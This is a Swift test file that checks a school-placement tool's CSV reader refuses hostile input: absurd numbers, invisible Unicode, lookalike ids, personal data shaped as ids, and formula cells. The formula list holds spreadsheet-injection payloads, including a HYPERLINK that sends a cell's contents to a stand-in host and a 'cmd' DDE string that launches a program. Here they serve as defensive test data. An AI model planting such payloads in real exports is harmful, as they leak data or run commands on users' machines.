import Foundation
import Testing

@testable import Placewise

/// A cell of the valid case replaced, and what the refusal must say.
struct HostileCell: CustomTestStringConvertible, Sendable {
  var file: String
  var column: String
  var value: String
  /// Text the problem's `expected` must hold (the range, say).
  var expected: String
  var testDescription: String { "\(file) \(column) = \(value)" }
}

/// The valid fixture with one cell of its first data row replaced.
private func withCell(_ cell: HostileCell) -> InputCaseFiles {
  switch cell.file {
  case "settings.csv": InputCaseFiles.valid.with(cell.file, InputCSVText.settings([[cell.column: cell.value]]))
  case "pupils.csv": InputCaseFiles.valid.with(cell.file, InputCSVText.pupils([[cell.column: cell.value]]))
  default:
    InputCaseFiles.valid.with(
      "travel.csv",
      cell.column == "km"
        ? "pupil_id,urn,minutes,km\nP001,100001,12,\(cell.value)\n"
        : "pupil_id,urn,minutes\nP001,100001,\(cell.value)\n")
  }
}

@Suite("Hostile input: absurd numbers, invisible characters, formulas (issue 9)")
struct HostileInputTests {
  static let absurdNumbers: [HostileCell] = [
    HostileCell(file: "pupils.csv", column: "easting", value: "1e23", expected: "from 0 to 700,000"),
    HostileCell(file: "pupils.csv", column: "northing", value: "-1", expected: "from 0 to 1,300,000"),
    HostileCell(file: "settings.csv", column: "easting", value: "800000", expected: "from 0 to 700,000"),
    HostileCell(file: "travel.csv", column: "minutes", value: "1e19", expected: "from 0 to 1,440"),
    HostileCell(file: "travel.csv", column: "minutes", value: "1e308", expected: "from 0 to 1,440"),
    HostileCell(file: "settings.csv", column: "cost_per_place", value: "1e19", expected: "from 0 to 10,000,000"),
    HostileCell(file: "settings.csv", column: "cost_per_place", value: "1.79e308", expected: "from 0 to 10,000,000"),
    HostileCell(file: "settings.csv", column: "capacity", value: "100001", expected: "from 0 to 100,000"),
    HostileCell(file: "settings.csv", column: "on_roll", value: "1000000", expected: "from 0 to 100,000"),
    HostileCell(file: "settings.csv", column: "need_places", value: "ASD:100001", expected: "from 0 to 100,000"),
    HostileCell(file: "settings.csv", column: "high_age", value: "26", expected: "from 0 to 25"),
    HostileCell(file: "pupils.csv", column: "age", value: "99", expected: "from 0 to 25"),
    HostileCell(file: "pupils.csv", column: "max_travel_minutes", value: "1e300", expected: "from 0 to 1,440"),
    HostileCell(file: "pupils.csv", column: "priority", value: "1000001", expected: "from 1 to 1,000,000"),
  ]

  @Test("finite but absurd numbers are refused at input, naming the range", arguments: absurdNumbers)
  func absurdNumbersAreRefusedWithTheirRange(_ cell: HostileCell) throws {
    let error = try withCell(cell).failure()
    let problem = try #require(error.problems.first)
    #expect(error.problems.count == 1, "\(error)")
    #expect(problem.file == cell.file && problem.line == 2 && problem.field == cell.column, "\(problem)")
    #expect(problem.expected.contains(cell.expected), "\(problem)")
  }

  @Test("a home coordinate out of range is described, never quoted")
  func homeCoordinatesOutOfRangeAreNotQuoted() throws {
    let error = try withCell(HostileCell(file: "pupils.csv", column: "easting", value: "751234", expected: ""))
      .failure()
    let problem = try #require(error.problems.first)
    #expect(!problem.description.contains("751234"))
    #expect(problem.found.contains("outside that range"))
  }

  @Test("whole numbers are judged from their digits, not from the nearest double")
  func nearWholeNumbersAreNotRounded() throws {
    for cell in [
      HostileCell(file: "settings.csv", column: "capacity", value: "99.99999999999999999", expected: "whole number"),
      HostileCell(file: "pupils.csv", column: "age", value: "10.99999999999999999", expected: "whole years"),
      HostileCell(file: "pupils.csv", column: "priority", value: "1.0000000000000000001", expected: "whole number"),
    ] {
      let error = try withCell(cell).failure()
      #expect(error.problems.first?.field == cell.column, "\(cell.value): \(error)")
    }
    // Whole numbers written as decimals still pass.
    let accepted = try withCell(HostileCell(file: "settings.csv", column: "capacity", value: "1.2e1", expected: ""))
      .read()
    #expect(accepted.settings[0].capacity == 12)
  }

  @Test("a whole number above the maximum is refused with the maximum in the message")
  func wholeNumberAboveTheMaximumNamesIt() throws {
    let cell = HostileCell(
      file: "pupils.csv", column: "priority", value: "99999999999999999999", expected: "from 1 to 1,000,000")
    let error = try withCell(cell).failure()
    #expect(error.problems.first?.expected.contains(cell.expected) == true, "\(error)")
  }

  @Test(
    "wholeNumber reads digits exactly",
    arguments: [
      ("3", 3), ("3.000", 3), ("+7", 7), ("-0", 0), ("1e2", 100), ("1.5e1", 15), ("250e-2", nil),
      ("99.99999999999999999", nil), ("0.00000000000000000001", nil), ("1e15", nil),
      ("999999999999999", 999_999_999_999_999),
      ("12.50e1", 125), (".5e1", 5), ("5.", 5), ("1e100000000", nil), ("abc", nil), ("", nil), ("1e", nil),
    ] as [(String, Int?)])
  func wholeNumberIsDecidedFromTheText(text: String, value: Int?) {
    var text = text
    #expect(text.withUTF8 { DecimalParser.wholeNumber($0) } == value)
  }

  @Test("travel.csv's km is checked like minutes", arguments: ["abc", "-5", "nan", "1e9"])
  func travelKmIsChecked(_ km: String) throws {
    let error = try withCell(HostileCell(file: "travel.csv", column: "km", value: km, expected: "km")).failure()
    let problem = try #require(error.problems.first)
    #expect(problem.field == "km" && problem.line == 2, "\(error)")
  }

  static let invisibleIDs: [(name: String, pupils: String, column: Int)] = [
    ("a NUL inside", "P0\u{0}01", 1),
    ("a byte-order mark at a line start", "\u{FEFF}P002", 1),
    ("a no-break space at the end", "P001\u{00A0}", 1),
    ("a zero-width space at the end", "P001\u{200B}", 1),
    ("a right-to-left override", "P\u{202E}100", 1),
    // Round twenty-two: default-ignorable characters of other categories.
    ("a combining grapheme joiner", "P0\u{034F}01", 1),
    ("a Hangul filler", "P001\u{3164}", 1),
    ("a line break in a quoted id", "\"P0\n01\"", 1),
  ]

  @Test("control and format characters in ids are refused with file, line and column", arguments: invisibleIDs)
  func invisibleCharactersInIdsAreRefused(_ id: (name: String, pupils: String, column: Int)) throws {
    let pupils = "pupil_id,easting,northing,age,primary_need,provision\n\(id.pupils),450500,250500,9,ASD,special\n"
    let error = try InputCaseFiles.valid.with("pupils.csv", pupils).without("travel.csv").failure()
    let problem = try #require(error.problems.first)
    #expect(problem.file == "pupils.csv" && problem.line == 2 && problem.column == id.column, "\(error)")
    #expect(problem.found.contains("U+"), "\(problem)")
  }

  /// Round twenty-eight: roll.csv's preferences and excluded_urns were
  /// read unchecked; an invisible character in a roll pupil's exclusion
  /// let a closure's compare place the child where excluded.
  @Test(
    "roll.csv's preferences and excluded_urns are checked as pupils.csv's",
    arguments: [("preferences", "100001\u{200B}", 8), ("excluded_urns", "=HYPER", 9)])
  func rollIdentifiers(_ cell: (column: String, value: String, number: Int)) throws {
    let roll =
      "pupil_id,urn,easting,northing,age,primary_need,provision,preferences,excluded_urns\n"
      + "R1,100001,450500,250500,9,ASD,special,\(cell.column == "preferences" ? cell.value : ""),"
      + "\(cell.column == "excluded_urns" ? cell.value : "")\n"
    let error = try InputCaseFiles.valid.with("roll.csv", roll).failure()
    let problem = try #require(error.problems.first { $0.file == "roll.csv" })
    #expect(problem.line == 2 && problem.column == cell.number && problem.field == cell.column, "\(error)")
    #expect(problem.expected.contains("urns of"), "\(problem)")
  }

  /// Round twenty-nine: a roll row with another problem was left out of
  /// its setting's count, so on_roll's problem showed only once it was mended.
  @Test("a roll row with another problem still counts towards its setting's on_roll")
  func rollRowWithAProblemCounts() throws {
    let roll =
      "pupil_id,urn,easting,northing,age,primary_need,provision\n"
      + (1...6).map { "R\($0),100001,450500,250500,9,\($0 == 6 ? "XYZ" : "ASD"),special\n" }.joined()
    let error = try InputCaseFiles.valid.with("roll.csv", roll).failure()
    let fields = error.problems.filter { $0.file == "roll.csv" }.map {
      "\($0.line.map(String.init) ?? "-") \($0.field ?? "")"
    }
    #expect(fields.contains("7 primary_need") && fields.contains("2 urn"), "\(error)")
  }

  @Test("roll.csv's preferences and excluded_urns naming no setting of the case are counted in warnings")
  func rollUnknownIdentifiers() throws {
    let roll =
      "pupil_id,urn,easting,northing,age,primary_need,provision,preferences,excluded_urns\n"
      + "R1,100001,450500,250500,9,ASD,special,999998,999999;999997\n"
    let read = try InputCaseFiles.valid.with("roll.csv", roll).read()
    let said = read.warnings.filter { $0.file == "roll.csv" }.map { "\($0.count) \($0.message)" }
    #expect(said.contains { $0.hasPrefix("1 1 preference names a URN not in settings.csv") }, "\(said)")
    #expect(said.contains { $0.hasPrefix("2 2 excluded_urns entries name URNs not in settings.csv") }, "\(said)")
  }

  /// Round twenty-two: a file saved with semicolons (Excel's CSV where the
  /// decimal mark is a comma) read as one column and got only "no column
  /// pupil_id".
  @Test("a header separated by semicolons or tabs is said to be so", arguments: [";", "\t"])
  func semicolonSeparatedHeader(_ mark: String) throws {
    let pupils =
      ["pupil_id", "easting", "northing", "age", "primary_need", "provision"].joined(separator: mark)
      + "\n" + ["P001", "450500", "250500", "9", "ASD", "special"].joined(separator: mark) + "\n"
    let error = try InputCaseFiles.valid.with("pupils.csv", pupils).without("travel.csv").failure()
    let problem = try #require(error.problems.first)
    #expect(problem.file == "pupils.csv" && problem.line == 1, "\(error)")
    let name = mark == ";" ? "semicolons" : "tabs"
    #expect(problem.found.contains("separated by \(name), not commas"), "\(problem)")
    #expect(problem.expected.contains("fields separated by commas"), "\(problem)")
  }

  /// Round twenty-four: personal data in the wrong column (a shifted
  /// export) was quoted in messages: a postcode in `age`, dates written
  /// `12.03.2015` or `12 March 2015`, a latitude, a name in `primary_need`,
  /// an address in `provision`. Each is described, not shown; a plain bad
  /// code is still quoted.
  @Test(
    "postcodes, dates in any form, coordinates, names and addresses in the wrong column are not shown",
    arguments: [
      ("age", "SW1A 1AA"), ("age", "me141xx"), ("priority", "12.03.2015"), ("priority", "12 March 2015"),
      ("priority", "March 12, 2015"), ("priority", "51.5074"), ("priority", "-0.1278"),
      ("primary_need", "John Smith"), ("provision", "Flat 2, 3 Acacia Ave"), ("sex", "M1 1AE"),
      // Round thirty-two: a grid reference's easting or northing, with its
      // decimals (a home converted from latitude and longitude).
      ("age", "412345.6789"), ("primary_need", "575830.1234"), ("priority", "1234.5678"),
    ])
  func personalDataInTheWrongColumn(_ column: String, _ value: String) throws {
    let columns = ["pupil_id", "easting", "northing", "age", "primary_need", "provision", "sex", "priority"]
    var cells = ["P001", "450500", "250500", "9", "ASD", "special", "F", "1"]
    cells[try #require(columns.firstIndex(of: column))] = value.contains(",") ? "\"\(value)\"" : value
    let pupils = columns.joined(separator: ",") + "\n" + cells.joined(separator: ",") + "\n"
    let error = try InputCaseFiles.valid.with("pupils.csv", pupils).without("travel.csv").failure()
    let problem = try #require(error.problems.first)
    #expect(problem.field == column && problem.found.contains("not shown"), "\(problem)")
    #expect(!problem.description.contains(value), "\(problem)")
  }

  /// Round thirty-two: a pupil_id shaped like a name (or a date of birth,
  /// a postcode) passed, and was written into every output; the case
  /// format says an id is pseudonymised, never a name.
  @Test(
    "a pupil_id shaped like personal data is refused, in pupils.csv and roll.csv, and not shown",
    arguments: [
      "John Smith", "2015-03-12", "SW1A 1AA", "Flat 2, 3 Acacia Ave",
      // Round thirty-six: these passed and were printed in every output.
      "A123456789012", "jane.smith@example.com", "943 476 5919", "QQ123456C", "J. Smith", "Smith J",
      "SW1A-1AA", "(51.50123, -0.12345)",
      // Round thirty-seven.
      "jane smith", "Mary-Jane Smith", "Smith, J", "jane.smith", "12.03.2015", "A12345678901B", "07700 900123",
      "943-476-5919",
      // The review of round thirty-seven.
      "12-Mar-15", "12 March 2015", "Pupil 12.03.2015", "Student Jones", "Child SW1A1AA", "Pupil A123456789012",
      // Letters and digits alone take a fast path: a postcode, a mobile's digits.
      "SW1A1AA", "07700900123",
      // Round thirty-eight.
      "J.Smith", "Jane+Smith", "Jane%20Smith", "Smith J 2015", "12th March 2015", "Mar 2015",
      "12\u{2013}03\u{2013}2015",
      "\u{FF11}\u{FF12}/\u{FF10}\u{FF13}/\u{FF12}\u{FF10}\u{FF11}\u{FF15}", "SW1A_1AA", "SW1A.1AA", "SW1A/1AA",
      "GIR 0AA",
      "TQ 30080 80160", "51°30'N 0°7'W", "tel:07700900123",
    ])
  func pupilIDLikePersonalData(_ value: String) throws {
    let value = value.contains(",") ? "\"\(value)\"" : value
    let pupils = "pupil_id,easting,northing,age,primary_need,provision\n\(value),450500,250500,9,ASD,special\n"
    let error = try InputCaseFiles.valid.with("pupils.csv", pupils).without("travel.csv").failure()
    let problem = try #require(error.problems.first)
    #expect(problem.field == "pupil_id" && problem.expected.contains("pseudonymised"), "\(problem)")
    #expect(!problem.description.contains(value), "\(problem)")
    let roll = "pupil_id,urn,easting,northing,age,primary_need,provision\n\(value),100001,450500,250500,9,ASD,special\n"
    let rolled = try InputCaseFiles.valid.with("roll.csv", roll).without("travel.csv").failure()
    #expect(rolled.problems.contains { $0.field == "pupil_id" && $0.expected.contains("pseudonymised") })
    #expect(!rolled.description.contains(value), "\(rolled)")
  }

  /// Round thirty-six: NHS numbers pasted as ids passed. Ten digits alone
  /// may be an authority's own ids, and 1 in 11 of those passes the NHS
  /// number's check digit by chance: a file whose every id (3 or more)
  /// passes it is refused, once, without showing them.
  @Test("a pupils.csv whose every id is a 10-digit number with the NHS check digit is refused")
  func nhsNumbersAsIDs() throws {
    func pupils(_ ids: [String]) -> String {
      "pupil_id,easting,northing,age,primary_need,provision\n"
        + ids.map { "\($0),450500,250500,9,ASD,special\n" }.joined()
    }
    let nhs = ["3982597919", "9074833780", "8762328603"]
    let error = try InputCaseFiles.valid.with("pupils.csv", pupils(nhs)).without("travel.csv").failure()
    #expect(error.problems.count == 1 && error.problems[0].field == "pupil_id", "\(error)")
    #expect(error.problems[0].found.contains("NHS") && !nhs.contains { error.description.contains($0) }, "\(error)")
    // Round thirty-seven: one ordinary id among them, or the roll, got them
    // through; more than half of 3 or more is enough.
    let mixed = try InputCaseFiles.valid.with("pupils.csv", pupils(nhs + ["P0001"])).without("travel.csv").failure()
    #expect(mixed.problems.map(\.field) == ["pupil_id"], "\(mixed)")
    let roll =
      "pupil_id,urn,easting,northing,age,primary_need,provision\n"
      + nhs.map { "\($0),100001,450500,250500,9,ASD,special\n" }.joined()
    let rolled = try InputCaseFiles.valid.with("roll.csv", roll).without("travel.csv").failure()
    #expect(rolled.problems.contains { $0.file == "roll.csv" && $0.field == "pupil_id" }, "\(rolled)")
    // One of three with the check digit, or two ids: an authority's own.
    for ids in [["3982597910", "9074833781", "8762328603"], Array(nhs.prefix(2))] {
      _ = try CaseReader.read(files: InputCaseFiles.valid.with("pupils.csv", pupils(ids)).without("travel.csv").files)
    }
  }

  /// The review of round thirty-two's rule: ids written in ordinary
  /// pseudonymised forms, some shaped like what a message only describes,
  /// still pass.
  @Test(
    "ordinary pseudonymised ids pass",
    arguments: [
      "2024.0001", "24-25-0017", "Jan-0042", "P000123", "ab12cd34", "1234567890", "P0123456789", "AB12", "Child A",
      "Pupil B", "Case C", "100101",
      // The review of round thirty-seven: ids of a numbering that reads a
      // little like a date, and one padded with a zero.
      "2024-01-0003", "24-09-0017", "20240112", "0123456789",
    ])
  func ordinaryPupilIDs(_ value: String) throws {
    let pupils = "pupil_id,easting,northing,age,primary_need,provision\n\(value),450500,250500,9,ASD,special\n"
    _ = try CaseReader.read(files: InputCaseFiles.valid.with("pupils.csv", pupils).without("travel.csv").files)
  }

  /// Round twenty-five: `fixed_urn` in pupils.csv and `urn` in roll.csv
  /// naming no setting quoted the cell as typed (a date of birth, a
  /// postcode, a name); round thirty-five: a pair of coordinates.
  @Test(
    "a fixed_urn or a roll's urn that names no setting is not shown where it looks like personal data",
    arguments: [
      "2015-03-12", "SW1A 1AA", "John Smith", "12.03.2015", "51.50123, -0.12345", "461000,250000", "461000 250000",
      "51.5 -0.1",
    ])
  func unknownSettingLikePersonalData(_ value: String) throws {
    let pupils =
      "pupil_id,easting,northing,age,primary_need,provision,fixed_urn\nP001,450500,250500,9,ASD,special,\"\(value)\"\n"
    let error = try InputCaseFiles.valid.with("pupils.csv", pupils).without("travel.csv").failure()
    let problem = try #require(error.problems.first)
    #expect(problem.field == "fixed_urn" && problem.found.contains("not shown"), "\(problem)")
    #expect(!problem.description.contains(value), "\(problem)")
    let roll =
      "pupil_id,urn,easting,northing,age,primary_need,provision\nR001,\"\(value)\",450500,250500,9,ASD,special\n"
    let rolled = try InputCaseFiles.valid.with("roll.csv", roll).without("travel.csv").failure()
    let second = try #require(rolled.problems.first)
    #expect(second.field == "urn" && second.found.contains("not shown"), "\(second)")
    #expect(!second.description.contains(value), "\(second)")
  }

  /// Round thirty-four: a settings.csv that could not be read (not text,
  /// or no urn column) made every roll.csv row and every fixed_urn "not
  /// the urn of a setting", burying the one problem that mattered.
  @Test(
    "a settings.csv that cannot be read is its own problem: no urn elsewhere is checked against it",
    arguments: ["\u{0}\u{1}binary", "foo,bar\n1,2\n", "urn,name\n"])
  func unreadableSettingsNoFollowOn(_ settings: String) throws {
    let pupils =
      "pupil_id,easting,northing,age,primary_need,provision,fixed_urn\nP001,450500,250500,9,ASD,special,100001\n"
    let roll = "pupil_id,urn,easting,northing,age,primary_need,provision\nR001,100001,450500,250500,9,ASD,special\n"
    let error = try InputCaseFiles.valid.with("settings.csv", settings).with("pupils.csv", pupils)
      .with("roll.csv", roll).without("travel.csv").failure()
    #expect(!error.problems.isEmpty && error.problems.allSatisfy { $0.file == "settings.csv" }, "\(error)")
    // A settings.csv that is read still checks them.
    let read = try InputCaseFiles.valid.with("pupils.csv", pupils.replacingOccurrences(of: ",100001", with: ",999"))
      .with("roll.csv", roll.replacingOccurrences(of: ",100001,", with: ",999,")).without("travel.csv").failure()
    #expect(Set(read.problems.map(\.file)) == ["pupils.csv", "roll.csv"], "\(read)")
  }

  /// Round thirty-six: one refused row of settings.csv shifted every later
  /// roll.csv look-up by one: a roll row at S9 (the refused row) was told
  /// "1 roll row at A1, whose on_roll is 0", and one at B1 "not a setting".
  @Test("a refused settings.csv row does not shift roll.csv's look-ups")
  func refusedSettingsRowKeepsRollLookups() throws {
    let settings =
      "urn,name,kind,easting,northing,low_age,high_age,capacity,on_roll,needs\n"
      + "S9,Special,special,450000,250000,11,99,10,1,ASD\n" + "A1,Alder,special,450000,250000,4,11,10,0,ASD\n"
      + "B1,Beech,special,450000,250000,4,11,10,1,ASD\n"
    let roll =
      "pupil_id,urn,easting,northing,age,primary_need,provision\n"
      + "R1,S9,450500,250500,15,ASD,special\nR2,B1,450500,250500,8,ASD,special\n"
    let pupils = "pupil_id,easting,northing,age,primary_need,provision\nP1,450500,250500,12,ASD,special\n"
    let error = try InputCaseFiles.valid.with("settings.csv", settings).with("pupils.csv", pupils)
      .with("roll.csv", roll).without("travel.csv").failure()
    #expect(error.problems.map(\.file) == ["settings.csv"], "\(error)")
    // B1's on_roll still counts its roll rows: 2 at B1 are one too many.
    let twice = roll + "R3,B1,450500,250500,8,ASD,special\n"
    let over = try InputCaseFiles.valid.with("settings.csv", settings).with("pupils.csv", pupils)
      .with("roll.csv", twice).without("travel.csv").failure()
    let rollProblem = try #require(over.problems.first { $0.file == "roll.csv" }, "\(over)")
    #expect(rollProblem.found == "2 roll rows at \"B1\", whose on_roll is 1", "\(rollProblem)")
  }

  /// Round twenty-six: a duplicate pupil_id that looks like personal data
  /// (a name, a postcode, a date of birth) was quoted.
  @Test(
    "a duplicate pupil_id that looks like personal data is not shown",
    arguments: ["Jane Doe", "SW1A 1AA", "2015-03-12"])
  func duplicateIdLikePersonalData(_ id: String) throws {
    let pupils =
      "pupil_id,easting,northing,age,primary_need,provision\n\(id),450500,250500,9,ASD,special\n"
      + "\(id),450500,250500,9,ASD,special\n"
    let error = try InputCaseFiles.valid.with("pupils.csv", pupils).without("travel.csv").failure()
    // Line 2's id is refused as shaped like personal data (round
    // thirty-two); line 3's is still told as a repeat.
    let problem = try #require(error.problems.first { $0.line == 3 })
    #expect(problem.field == "pupil_id" && problem.found.hasSuffix(" again"), "\(problem)")
    #expect(!error.description.contains(id), "\(error)")
  }

  @Test("a plain bad code is still quoted")
  func plainBadCodeQuoted() throws {
    let pupils = "pupil_id,easting,northing,age,primary_need,provision\nP001,450500,250500,9,XYZ,special\n"
    let error = try InputCaseFiles.valid.with("pupils.csv", pupils).without("travel.csv").failure()
    #expect(error.problems.first?.found == "\"XYZ\"", "\(error)")
  }

  @Test("an id and the same id with an invisible character after it are not two pupils")
  func lookalikeIdsAreNotTwoPupils() throws {
    let pupils =
      "pupil_id,easting,northing,age,primary_need,provision\nP001,450500,250500,9,ASD,special\n"
      + "P001\u{00A0},450500,250500,9,ASD,special\n"
    let error = try InputCaseFiles.valid.with("pupils.csv", pupils).without("travel.csv").failure()
    #expect(error.problems.map(\.line) == [3])
  }

  /// Hostile trial, round twenty-one: `É` composed and `E` with a combining
  /// accent passed as two settings (two pupils), while Swift's strings,
  /// which key them after reading, hold them equal: a request for the
  /// second was met at the first.
  @Test("one id written in two Unicode spellings is refused as a duplicate, in settings, pupils and the roll")
  func canonicallyEqualIdsAreOneId() throws {
    let composed = "S\u{00C9}1"
    let decomposed = "SE\u{0301}1"
    #expect(composed == decomposed && Array(composed.utf8) != Array(decomposed.utf8))
    let settings = InputCSVText.settings([["urn": composed], ["urn": decomposed]])
    let pupils =
      "pupil_id,easting,northing,age,primary_need,provision\n\(composed),450500,250500,9,ASD,special\n"
      + "\(decomposed),450500,250500,9,ASD,special\n"
    let roll =
      "pupil_id,urn,easting,northing,age,primary_need,provision\n\(decomposed),100001,450500,250500,9,ASD,special\n"
    for (file, text, line) in [("settings.csv", settings, 3), ("pupils.csv", pupils, 3)] {
      let error = try InputCaseFiles.valid.with(file, text).without("travel.csv").failure()
      #expect(
        error.problems.contains {
          $0.file == file && $0.line == line
            && $0.found.contains("the same text as line 2's in other Unicode code points")
        }, "\(error)")
    }
    let onRoll = try InputCaseFiles.valid.with("pupils.csv", InputCSVText.pupils([["pupil_id": composed]])).with(
      "roll.csv", roll
    ).without("travel.csv").failure()
    #expect(onRoll.problems.contains { $0.file == "roll.csv" && $0.line == 2 && $0.field == "pupil_id" }, "\(onRoll)")
  }

  /// Round twenty-two: a travel.csv row naming a setting (or pupil) in the
  /// other Unicode spelling was skipped as naming none, leaving the pupil
  /// without that journey; preferences so spelt were counted as unknown.
  @Test("a reference in the other Unicode spelling of an id names the same setting and pupil")
  func referencesInTheOtherSpelling() throws {
    let composed = "S\u{00C9}1"
    let decomposed = "SE\u{0301}1"
    let settings = InputCSVText.settings([["urn": composed]])
    func read(_ urn: String, _ pupil: String) throws -> Case {
      let pupils =
        "pupil_id,easting,northing,age,primary_need,provision,preferences\n"
        + "P\u{00E9},450500,250500,9,ASD,special,\(urn)\n"
      return try InputCaseFiles.valid.with("settings.csv", settings).with("pupils.csv", pupils).with(
        "travel.csv", "pupil_id,urn,minutes\n\(pupil),\(urn),12\n"
      ).read()
    }
    let same = try read(composed, "P\u{00E9}")
    let other = try read(decomposed, "Pe\u{0301}")
    #expect(same.travel?.count == 1 && other.travel?.count == 1, "\(String(describing: other.travel))")
    #expect(other.warnings.isEmpty, "\(other.warnings)")
  }

  static let formulas = ["=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]

  @Test("ids that a spreadsheet would run as a formula are refused", arguments: formulas)
  func formulaIdsAreRefused(_ formula: String) throws {
    let cell = "\"" + formula + "\""
    let cases = [
      InputCaseFiles.valid.with("pupils.csv", InputCSVText.pupils([["pupil_id": cell]])).without("travel.csv"),
      InputCaseFiles.valid.with("settings.csv", InputCSVText.settings([["urn": cell]])).without("travel.csv"),
      InputCaseFiles.valid.with("pupils.csv", InputCSVText.pupils([["current_urn": cell]])),
      InputCaseFiles.valid.with("pupils.csv", InputCSVText.pupils([["preferences": cell]])),
    ]
    for files in cases {
      let error = try files.failure()
      #expect(error.problems.contains { $0.found.contains("formula") }, "\(error)")
    }
  }

  @Test("a plain negative number is an id like any other")
  func plainNumbersAreIds() throws {
    let files = InputCaseFiles.valid.with("pupils.csv", InputCSVText.pupils([["pupil_id": "-5"]])).without(
      "travel.csv")
    #expect(try files.read().pupils[0].id.rawValue == "-5")
  }

  @Test("a setting's name keeps its text but never a line break")
  func namesNeverBreakALine() throws {
    let files = InputCaseFiles.valid.with(
      "settings.csv", InputCSVText.settings([["name": "\"Oak\nSchool\r\u{2028}=1\""]]))
    let name = try files.read().settings[0].name
    #expect(name == "Oak School  =1")
  }

  @Test(
    "absurd policy values are refused at input, naming the key",
    arguments: [
      ("detour_factor", "1e308"), ("speed_kmh", "1e-320"), ("speed_kmh", "0.5"), ("unlisted_penalty", "1e308"),
      ("preference_step", "1e12"), ("max_travel_minutes_primary", "1e9"),
    ])
  func absurdPolicyValuesAreRefused(key: String, value: String) throws {
    let (_, problems) = PolicyReader.read(Array("\(key) = \(value)\n".utf8), file: "policy.toml")
    #expect(problems.count == 1)
    #expect(problems.first?.field == key, "\(problems)")
    #expect(problems.first?.expected.contains("from") == true, "\(problems)")
  }

  @Test("a file that is not TOML given as the policy is described, never quoted")
  func policyProblemsNeverQuoteTheLine() throws {
    let csv = """
      pupil_id,easting,northing,age,primary_need,provision
      P001,551000,150500,7,ASD,special
      ,551000,150500,7,ASD,special
      "P003",551001,150501,7,ASD,special
      P004 = 551002,150502
      speed_kmh = 30 551003
      [551004]
      x.551005 = 1
      """
    let (_, problems) = PolicyReader.read(Array(csv.utf8), file: "pupils.csv")
    #expect(problems.count >= 7)
    for problem in problems {
      #expect(!problem.description.contains("5510"), "\(problem)")
      #expect(!problem.description.contains("P00"), "\(problem)")
    }
  }
}
